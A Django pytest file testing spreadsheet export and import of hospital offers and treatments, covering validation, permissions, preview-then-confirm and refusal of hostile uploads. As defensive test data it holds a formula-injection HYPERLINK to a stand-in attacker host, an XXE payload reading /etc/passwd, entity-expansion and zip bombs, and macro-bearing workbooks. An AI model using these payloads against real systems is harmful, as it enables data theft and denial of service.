"""Offers and treatments as sheets: what goes out, what a preview says, all rows or none, and files that are refused."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook, load_workbook

from apps.common.models import AuditEntry
from apps.hospitals import services
from apps.hospitals.admin import sheets
from apps.hospitals.models import Offer, Treatment
from tests.factories.catalogue import CategoryFactory, OfferFactory, ProcedureFactory, TreatmentFactory
from tests.factories.hospitals import HospitalFactory, HospitalStaffFactory, SpecialtyFactory

pytestmark = pytest.mark.django_db

OFFERS, TREATMENTS = "/admin/hospitals/offer/", "/admin/hospitals/treatment/"


@pytest.fixture
def browser(client):
    def sign_in(user):
        client.force_login(user)
        return client

    return sign_in


def workbook(*rows):
    """A sheet as Excel would save it."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    return saved(book)


def saved(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client, content, pages=OFFERS, name="sheet.xlsx"):
    file = io.BytesIO(content)
    file.name = name
    return client.post(f"{pages}sheet/import", {"file": file})


def confirm(client, preview, pages=OFFERS):
    seen = {"token": preview.context["token"], "digest": preview.context["digest"]}
    return client.post(f"{pages}sheet/confirm", seen, follow=True)


def counts(preview):
    return {group["kind"]: group["count"] for group in preview.context["groups"] if group["count"]}


def lines(preview, kind):
    return next(group["lines"] for group in preview.context["groups"] if group["kind"] == kind)


def rows_of(response):
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    headers, *rows = [[cell.value for cell in row] for row in sheet.rows]
    return [dict(zip(headers, row, strict=True)) for row in rows]


def errors(response):
    return response.context["form"].errors["file"]


# --- out -------------------------------------------------------------------------------------------------------------


def test_what_goes_out_comes_back_unchanged(browser, platform_admin):
    OfferFactory(inclusions_en="Surgeon\n=2+3\n- Ward", inclusions_ar="الجراح", price=Decimal("480000.50"))
    OfferFactory(currency="JPY", price=900_000, success_rate=Decimal("97.5"), is_active=False)
    client = browser(platform_admin)
    exported = client.get(f"{OFFERS}sheet/export")
    preview = upload(client, exported.content)
    assert counts(preview) == {"same": 2}
    assert not preview.context["may_confirm"]


def test_a_text_that_looks_like_a_formula_goes_out_as_a_text(browser, platform_admin):
    OfferFactory(inclusions_en='=HYPERLINK("http://evil.example/?"&A1)', exclusions_en="@SUM(1)", inclusions_fr="+33 1")
    response = browser(platform_admin).get(f"{OFFERS}sheet/export")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    suspects = [cell for cell in sheet[2] if str(cell.value or "").startswith(sheets.FORMULA_STARTS)]
    assert len(suspects) == 3
    assert {cell.data_type for cell in suspects} == {"s"}
    assert all(cell.quotePrefix for cell in suspects), "and stays one when it is edited"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_the_export_is_of_what_the_list_shows(browser, platform_admin):
    wanted = OfferFactory(treatment__name="Hip replacement")
    OfferFactory(treatment__name="Knee replacement")
    found = rows_of(browser(platform_admin).get(f"{OFFERS}sheet/export?q=hip"))
    assert [row["treatment"] for row in found] == [wanted.treatment.code]


def test_hospital_staff_take_out_their_own_offers_only(browser, hospital, hospital_admin):
    own = OfferFactory(hospital=hospital)
    OfferFactory(treatment=own.treatment)
    found = rows_of(browser(hospital_admin).get(f"{OFFERS}sheet/export"))
    assert [row["hospital_id"] for row in found] == [str(hospital.pk)]
    assert AuditEntry.objects.filter(action="offer.exported", actor=hospital_admin, changes={"rows": 1}).exists()


def test_too_many_rows_are_to_be_narrowed_first(browser, platform_admin, monkeypatch):
    monkeypatch.setattr(sheets, "MAX_ROWS", 1)
    OfferFactory.create_batch(2)
    response = browser(platform_admin).get(f"{OFFERS}sheet/export", follow=True)
    assert "narrow the list" in response.content.decode()


def test_the_template_names_every_column_and_the_codes_one_may_write(browser, hospital_admin, hospital, other_hospital):
    treatment = TreatmentFactory()
    book = load_workbook(io.BytesIO(browser(hospital_admin).get(f"{OFFERS}sheet/template").content))
    assert len(book.worksheets) == 3
    assert {"hospital_id", "treatment", "price", "inclusions_ar"} <= {cell.value for cell in book.worksheets[0][1]}
    hospitals, treatments = ([[cell.value for cell in row] for row in page.rows] for page in book.worksheets[1:])
    assert hospitals[1:] == [[str(hospital.pk), hospital.name]], "their own, and no other"
    assert [treatment.code, treatment.name] in treatments


@pytest.mark.parametrize("who", ["translator", "coordinator", "support_agent"])
@pytest.mark.parametrize("page", ["export", "template", "import", "confirm"])
def test_sheets_are_for_those_who_keep_the_rows(browser, request, who, page):
    OfferFactory()
    assert browser(request.getfixturevalue(who)).get(f"{OFFERS}sheet/{page}").status_code == 403


def test_hospital_staff_do_not_import_the_catalogue(browser, hospital_admin):
    client = browser(hospital_admin)
    assert client.get(f"{TREATMENTS}sheet/import").status_code == 403
    assert "sheet/import" not in client.get(TREATMENTS).content.decode()
    assert "sheet/import" in client.get(OFFERS).content.decode()


# --- in --------------------------------------------------------------------------------------------------------------


@pytest.fixture
def known(hospital):
    """An offer of the hospital, and a treatment that it does not offer yet."""
    return OfferFactory(hospital=hospital, price=100_000, inclusions_en="Ward"), TreatmentFactory()


def test_a_preview_says_what_is_new_what_changes_and_what_stays(browser, hospital_admin, hospital, known):
    offer, treatment = known
    unchanged = OfferFactory(hospital=hospital, price=5_000)
    preview = upload(
        browser(hospital_admin),
        workbook(
            ["treatment", "price", "inclusions_en", "inclusions_ar"],
            [offer.treatment.code, 120_000, "Ward", "الجناح"],
            [],
            [treatment.code, "250000.75", "Surgeon\nWard", None],
            [unchanged.treatment.code, 5_000, None, None],
        ),
    )
    assert counts(preview) == {"new": 1, "changed": 1, "same": 1}
    [changed] = lines(preview, "changed")
    assert changed.number == 2
    assert [(cell.column, cell.before, cell.after) for cell in changed.cells] == [
        ("price", "100000", "120000"), ("inclusions_ar", "", "الجناح"),
    ]  # fmt: skip
    assert lines(preview, "new")[0].number == 4, "as the program counts its rows, with blank ones"
    offer.refresh_from_db()
    assert offer.price == 100_000, "nothing is saved by looking"
    assert Offer.objects.count() == 2


def test_what_is_confirmed_is_saved_as_by_hand(browser, hospital_admin, hospital, known):
    offer, treatment = known
    client = browser(hospital_admin)
    content = workbook(
        ["treatment", "price", "currency", "is_active", "inclusions_ar"],
        [offer.treatment.code, 120_000, "INR", "no", "الجناح"],
        [treatment.code, 900, "usd", "yes", ""],
    )
    response = confirm(client, upload(client, content))
    assert "1 new, 1 changed" in response.content.decode()
    offer.refresh_from_db()
    assert (offer.price, offer.is_active, offer.inclusions_ar) == (120_000, False, "الجناح")
    assert offer.text_status["inclusions"]["ar"]["status"] == "reviewed", "a person wrote it"
    new = Offer.objects.get(treatment=treatment)
    assert (new.hospital, new.price, new.currency) == (hospital, 900, "USD")
    assert AuditEntry.objects.filter(object_id=str(offer.pk), action="changed", actor=hospital_admin).exists()
    assert AuditEntry.objects.filter(action="offer.imported", changes={"new": 1, "changed": 1}).exists()


WRONG = {
    "a treatment that nobody has": (["treatment", "price"], ["nonsense", 5], "treatment", "no treatment"),
    "no price": (["treatment", "price"], ["{new}", None], "price", "missing"),
    "a price that is none": (["treatment", "price"], ["{new}", "much"], "price", "not a number"),
    "a price below zero": (["treatment", "price"], ["{new}", -5], "price", "than or equal to 0"),
    "separators to guess at": (["treatment", "price"], ["{new}", "480,000"], "price", "not a number"),
    "more places than the currency has": (
        ["treatment", "price", "currency"], ["{new}", "900.5", "JPY"], "price", "at most 0 decimal places",
    ),
    "an unknown currency": (["treatment", "price", "currency"], ["{new}", 5, "ABC"], "currency", "not a currency"),
    "half a day": (["treatment", "price", "stay_days"], ["{new}", 5, 2.5], "stay_days", "whole number"),
    "a stay shorter than the time in hospital": (
        ["treatment", "price", "hospital_days", "stay_days"], ["{new}", 5, 9, 3], "stay_days", "cannot be fewer",
    ),
    "more than all": (["treatment", "price", "success_rate"], ["{new}", 5, 101], "success_rate", "100"),
    "perhaps": (["treatment", "price", "is_active"], ["{new}", 5, "perhaps"], "is_active", "yes"),
    "a formula": (["treatment", "price"], ["{new}", "=1+1"], "", "formula"),
    "an item without an end": (
        ["treatment", "price", "inclusions_en"], ["{new}", 5, "x" * 300], "inclusions_en", "character",
    ),
    "a hospital that nobody has": (
        ["hospital_id", "treatment", "price"], ["nonsense", "{new}", 5], "hospital_id", "no such hospital",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", WRONG)
def test_a_wrong_row_says_what_is_wrong_where_and_nothing_can_be_saved(browser, hospital_admin, known, case):
    headers, row, column, text = WRONG[case]
    _offer, treatment = known
    written = [treatment.code if cell == "{new}" else cell for cell in row]
    preview = upload(browser(hospital_admin), workbook(headers, written))
    [line] = lines(preview, "error")
    assert line.number == 2
    assert [name for name, _text in line.errors] == [column]
    assert text in line.errors[0][1]
    assert not preview.context["may_confirm"]
    assert Offer.objects.count() == 1


def test_the_same_treatment_twice_is_an_error(browser, hospital_admin, known):
    code = known[1].code
    preview = upload(browser(hospital_admin), workbook(["treatment", "price"], [code, 5], [code, 6]))
    assert [line.number for line in lines(preview, "error")] == [3]


def test_one_wrong_row_keeps_all_from_being_saved(browser, hospital_admin, known):
    offer, _treatment = known
    client = browser(hospital_admin)
    preview = upload(client, workbook(["treatment", "price"], [offer.treatment.code, 7], ["nonsense", 5]))
    assert counts(preview) == {"changed": 1, "error": 1}
    assert "over" in confirm(client, preview).content.decode()
    offer.refresh_from_db()
    assert offer.price == 100_000


def test_what_has_changed_since_the_preview_is_shown_anew(browser, hospital_admin, known):
    offer, _treatment = known
    client = browser(hospital_admin)
    preview = upload(client, workbook(["treatment", "price"], [offer.treatment.code, 7]))
    Offer.objects.update(price=55)
    response = confirm(client, preview)
    assert "Something has changed since the preview" in response.content.decode()
    offer.refresh_from_db()
    assert offer.price == 55
    assert lines(response, "changed")[0].cells[0].before == "55"
    confirm(client, response)
    offer.refresh_from_db()
    assert offer.price == 7


def test_a_preview_is_confirmed_once_and_by_whoever_saw_it(browser, hospital_admin, hospital, known):
    offer, _treatment = known
    client = browser(hospital_admin)
    preview = upload(client, workbook(["treatment", "price"], [offer.treatment.code, 7]))
    client = browser(HospitalStaffFactory(hospital=hospital).user)
    assert "preview is over" in confirm(client, preview).content.decode()
    offer.refresh_from_db()
    assert offer.price == 100_000
    client = browser(hospital_admin)
    assert "Imported" in confirm(client, preview).content.decode()
    assert "preview is over" in confirm(client, preview).content.decode()


def test_anothers_hospital_answers_like_one_that_does_not_exist(browser, hospital_admin, hospital, other_hospital):
    theirs = OfferFactory(hospital=other_hospital, price=77_777)
    client = browser(hospital_admin)
    unknown = "01a1fe14-bdd0-765e-8df2-8227d16d9973"
    said = []
    for place in (str(other_hospital.pk), unknown):
        preview = upload(client, workbook(["hospital_id", "treatment", "price"], [place, theirs.treatment.code, 1]))
        [line] = lines(preview, "error")
        said.append((line.name, line.errors))
        page = preview.content.decode()
        assert other_hospital.name not in page
        assert "77777" not in page
    assert said[0] == said[1]
    theirs.refresh_from_db()
    assert theirs.price == 77_777


def test_who_works_for_two_hospitals_names_one(browser, hospital, hospital_admin):
    other = HospitalStaffFactory(user=hospital_admin, hospital=HospitalFactory()).hospital
    treatment = TreatmentFactory()
    client = browser(hospital_admin)
    unnamed = upload(client, workbook(["treatment", "price"], [treatment.code, 5]))
    assert lines(unnamed, "error")[0].errors[0][0] == "hospital_id"
    named = workbook(["hospital_id", "treatment", "price"], [str(other.pk), treatment.code, 5])
    confirm(client, upload(client, named))
    assert Offer.objects.get().hospital == other


def test_an_admin_keeps_the_catalogue_by_sheet(browser, platform_admin):
    CategoryFactory(code="orthopaedics")
    SpecialtyFactory(code="orthopaedic-surgery")
    procedure = ProcedureFactory()
    known = TreatmentFactory(name="Old name", description_en="One\r\nTwo")
    client = browser(platform_admin)
    headers = ["code", "category", "specialty", "procedures", "name_en", "name_ar", "description_en"]
    content = workbook(
        headers,
        [
            "hip-replacement",
            "orthopaedics",
            "orthopaedic-surgery",
            procedure.code,
            "Hip replacement",
            "استبدال",
            "New.",
        ],
        [known.code, known.category.code, known.specialty.code, "", "New name", "", "One\nTwo"],
    )
    preview = upload(client, content, TREATMENTS)
    assert counts(preview) == {"new": 1, "changed": 1}
    assert [cell.column for cell in lines(preview, "changed")[0].cells] == ["name_en"]
    confirm(client, preview, TREATMENTS)
    created = Treatment.objects.get(code="hip-replacement")
    assert (created.name_ar, [row.code for row in created.procedures.all()]) == ("استبدال", [procedure.code])
    known.refresh_from_db()
    assert known.name_en == "New name"
    assert counts(upload(client, client.get(f"{TREATMENTS}sheet/export").content, TREATMENTS)) == {"same": 2}


@pytest.mark.parametrize(
    ("column", "value"), [("category", "nonsense"), ("specialty", "nonsense"), ("procedures", "a, b"), ("name_en", "")]
)
def test_a_treatment_with_an_unknown_code_or_no_name_is_an_error(browser, platform_admin, column, value):
    known = TreatmentFactory()
    preview = upload(browser(platform_admin), workbook(["code", column], [known.code, value]), TREATMENTS)
    assert lines(preview, "error")[0].errors[0][0] == column


@pytest.mark.parametrize(
    ("headers", "text"),
    [
        (["treatment", "price", "owner"], "no column “owner”"),
        (["price"], "“treatment” is needed"),
        (["treatment", "price", "price"], "twice"),
    ],
)
def test_headers_must_be_the_templates(browser, hospital_admin, headers, text):
    assert text in errors(upload(browser(hospital_admin), workbook(headers, ["x"] * len(headers))))[0]


# --- hostile files ---------------------------------------------------------------------------------------------------


def packed(parts=None, **more):
    """A real workbook with parts changed or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook(["treatment"], ["x"]))) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for name in source.namelist():
            archive.writestr(name, (parts or {}).get(name, source.read(name)))
        for name, content in more.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    b'<c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'
)
EXTERNAL = ENTITIES.replace(b'<!ENTITY a "aaaa">', b'<!ENTITY a SYSTEM "file:///etc/passwd">')


def types(old, new):
    with zipfile.ZipFile(io.BytesIO(workbook(["a"]))) as archive:
        return {"[Content_Types].xml": archive.read("[Content_Types].xml").replace(old, new)}


HOSTILE = {
    "no archive": lambda: b"treatment;price\n",
    "a program": lambda: b"MZ" + b"\x00" * 500,
    "an old workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000,
    "an archive of something else": lambda: packed({"[Content_Types].xml": b"<Types/>"}),
    "cut off": lambda: packed()[:-200],
    "a bomb": lambda: packed(xl__media__zeros=b"\x00" * (sheets.MAX_UNPACKED + 1)),
    "a thousand parts": lambda: packed(**{f"xl__part{number}": b"" for number in range(1000)}),
    "entities that multiply": lambda: packed({SHEET: ENTITIES}),
    "an entity from this machine": lambda: packed({SHEET: EXTERNAL}),
    "the same in another encoding": lambda: packed({SHEET: EXTERNAL.decode().encode("utf-16")}),
    "macros": lambda: packed(xl__vbaProject="x"),
    "macros by type": lambda: packed(types(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")),
    "an embedded object": lambda: packed(xl__embeddings__oleObject1="x"),
    "a link to another workbook": lambda: packed(xl__externalLinks__externalLink1="x"),
    "no sheet": lambda: packed({"xl/workbook.xml": b"<workbook/>"}),
    "broken xml": lambda: packed({SHEET: b"<worksheet><sheetData><row"}),
    "too large": lambda: b"PK" + b"\x00" * sheets.MAX_BYTES,
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_is_refused_with_a_sentence(browser, hospital_admin, kind):
    response = upload(browser(hospital_admin), HOSTILE[kind]())
    assert response.status_code == 200
    assert errors(response)
    assert "root:" not in response.content.decode()


def test_the_control_is_accepted(browser, hospital_admin):
    """A workbook that was packed anew, as the hostile ones are, and nothing else."""
    assert lines(upload(browser(hospital_admin), packed()), "error")[0].errors[0][0] == "treatment"
    assert "groups" in upload(browser(hospital_admin), workbook(["treatment", "price"], ["x", 1])).context


def test_rows_far_below_are_too_many_and_cost_nothing(browser, hospital_admin):
    far = workbook(["treatment", "price"])
    with zipfile.ZipFile(io.BytesIO(far)) as archive:
        sheet = archive.read(SHEET)
    lonely = b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'
    response = upload(browser(hospital_admin), packed({SHEET: sheet.replace(b"</sheetData>", lonely)}))
    assert "too many rows" in errors(response)[0]


def test_one_row_too_many_is_refused(browser, hospital_admin, monkeypatch):
    monkeypatch.setattr(sheets, "MAX_ROWS", 2)
    rows = [["x", 1]] * 3
    assert "too many rows" in errors(upload(browser(hospital_admin), workbook(["treatment", "price"], *rows)))[0]
    assert "groups" in upload(browser(hospital_admin), workbook(["treatment", "price"], *rows[:2])).context


# --- many at once ----------------------------------------------------------------------------------------------------


def offers_by_hand_and_at_once(hospital, by, rows):
    """What the two ways leave behind of the same rows: columns, statuses of texts, and the trail."""
    left = []
    for save in (one_by_one, at_once):
        point = transaction.savepoint()
        save(hospital, by, rows)
        offers = Offer.objects.order_by("treatment__code").values(*COMPARED)
        trail = AuditEntry.objects.filter(object_type="hospitals.offer").values_list("action", flat=True)
        left.append((list(offers), sorted(trail)))
        transaction.savepoint_rollback(point)
    return left


COMPARED = [
    "hospital", "treatment__code", "price", "currency", "stay_days", "is_active", "inclusions_en", "inclusions_ar",
]  # fmt: skip


def one_by_one(hospital, by, rows):
    for treatment, changes in rows:
        offer = Offer.objects.filter(hospital=hospital, treatment=treatment).first()
        if offer is None:
            services.create_offer(hospital, treatment, by=by, **changes)
        else:
            services.update_offer(offer, by=by, **changes)


def at_once(hospital, by, rows):
    wanted = [services.WantedOffer(hospital, treatment, changes) for treatment, changes in rows]
    assert services.save_offers(wanted, by=by) == [None] * len(rows)


def test_many_offers_at_once_are_what_they_are_one_by_one(hospital, hospital_admin):
    known, other = OfferFactory(hospital=hospital, inclusions_en="Ward"), OfferFactory(hospital=hospital)
    rows = [
        (known.treatment, {"price": Decimal(7), "inclusions": {"en": " Ward \n\nMeals", "ar": "الجناح"}}),
        (other.treatment, {"is_active": False}),
        (TreatmentFactory(), {"price": Decimal(900), "currency": "USD", "stay_days": 3}),
        (TreatmentFactory(), {"price": Decimal(5), "inclusions": {"en": "Surgeon"}}),
    ]
    by_hand, together = offers_by_hand_and_at_once(hospital, hospital_admin, rows)
    assert together == by_hand
    assert len(together[0]) == 4


def test_where_one_offer_is_refused_none_is_saved(hospital, hospital_admin, other_hospital):
    treatment = TreatmentFactory()
    wanted = [
        services.WantedOffer(hospital, treatment, {"price": Decimal(5)}),
        services.WantedOffer(other_hospital, treatment, {"price": Decimal(5)}),
        services.WantedOffer(hospital, TreatmentFactory(is_active=False), {"price": Decimal(5)}),
        services.WantedOffer(hospital, TreatmentFactory(), {"price": Decimal(-5)}),
    ]
    refusals = services.save_offers(wanted, by=hospital_admin)
    assert [type(refusal).__name__ for refusal in refusals] == [
        "NoneType", "Forbidden", "TreatmentNotActive", "ValidationError",
    ]  # fmt: skip
    assert not Offer.objects.exists()


def test_the_statements_of_an_import_do_not_grow_with_its_rows(hospital, hospital_admin):
    def statements(rows):
        wanted = [services.WantedOffer(hospital, TreatmentFactory(), {"price": Decimal(5)}) for _ in range(rows)]
        with CaptureQueriesContext(connection) as captured:
            services.save_offers(wanted, by=hospital_admin)
        return len(captured)

    assert statements(3) == statements(60)
